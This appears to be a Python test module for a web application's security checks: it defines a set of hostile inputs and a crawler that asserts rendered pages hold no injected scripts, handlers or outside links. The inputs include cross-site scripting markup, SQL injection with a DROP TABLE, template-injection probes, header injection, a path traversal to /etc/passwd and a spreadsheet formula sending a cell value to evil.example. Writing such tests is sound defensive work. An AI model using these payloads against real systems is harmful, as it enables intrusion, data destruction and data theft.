"""Words that somebody might put where words are asked for, so that they are taken for something else."""

from __future__ import annotations

import re
from collections.abc import Iterator

from fastapi.routing import iter_route_contexts
from lxml.html import HtmlElement, document_fromstring
from starlette.applications import Starlette
from starlette.testclient import TestClient

MARKUP = "<img src=x onerror=alert(1)>\"'><script>alert(2)</script><svg/onload=alert(3)></title></textarea></style><!--"
ATTRIBUTE = '" onmouseover=alert(1) autofocus onfocus=alert(2) style="background:url(https://evil.example/)" x=\''
ADDRESS = "javascript:alert(document.domain)//https://evil.example/"
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}#{7*7}{{ ''.__class__.__mro__ }}<%= 7*7 %>%(name)s{0.__class__}"
SQL = "'; DROP TABLE ledger; -- \" OR 1=1 /* ') UNION SELECT payload FROM ledger--"
QUERY = '"unclosed NEAR( a b ) AND OR NOT * ^ : names : col:(x) {a} -" + \\'
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")'
CONTROLS = "a\0b\x07\x1b[31m\r\nSet-Cookie: x=1\r\n\r\n\x7f\u0085\u2028\u202e\u2066\ufeff\ufffe"
TRAVERSAL = "../../../../../../etc/passwd"
LONG = "a" * 20_000

ATTACKS = {
    "markup": MARKUP,
    "attribute": ATTRIBUTE,
    "address": ADDRESS,
    "template": TEMPLATE,
    "SQL": SQL,
    "query": QUERY,
    "formula": FORMULA,
    "controls": CONTROLS,
    "traversal": TRAVERSAL,
    "long": LONG,
}

OURS = re.compile(r"/static/[a-z]+\.js\?v=[0-9a-f]{12}")


def assert_clean(text: str, *, scripts: re.Pattern[str] = OURS) -> HtmlElement:
    """Nothing stands in a page but what our templates put there: no element, attribute, address or comment that could do anything."""
    page = document_fromstring(text)
    assert page.xpath("//img | //style | //iframe | //object | //embed | //base | //foreignObject | //meta[@http-equiv]") == []
    assert page.xpath("//@*[starts-with(name(), 'on')] | //@style | //@srcdoc | //comment()") == []
    assert [script for script in page.xpath("//script") if script.text or not scripts.fullmatch(script.get("src", ""))] == []
    assert [link for link in map(str, page.xpath("//@href | //@action | //@formaction | //@src")) if not link.startswith(("/", "#"))] == []
    assert "49" not in re.split(r"\W+", " ".join(page.xpath("//q//text() | //bdi//text()")))  # 7*7
    return page


def pages(client: TestClient, *first: str) -> Iterator[tuple[str, HtmlElement]]:
    """Every page of the workspace that leads from the first ones, each once, held to be clean."""
    seen, waiting = set[str](), [*first]
    while waiting:
        address = waiting.pop()
        if address in seen or (address.startswith("/incidents?") and len([one for one in seen if one.startswith("/incidents?")]) > 8):
            continue  # there is no end of states of the list
        seen.add(address)
        answer = client.get(address)
        if not answer.headers["content-type"].startswith("text/html"):
            continue
        assert answer.status_code < 500, f"{address}: {answer.text[:2000]}"
        page = assert_clean(answer.text)
        yield address, page
        waiting += [link.split("#")[0] for link in map(str, page.xpath("//a/@href")) if not link.startswith(("#", "/static"))]


def routes(app: Starlette) -> Iterator[tuple[str, frozenset[str]]]:
    """The paths of an application with their methods, but for its files; later ones are found as well."""
    for context in iter_route_contexts(app.routes):
        if methods := getattr(context, "methods", None):
            yield str(context.path), frozenset(methods)
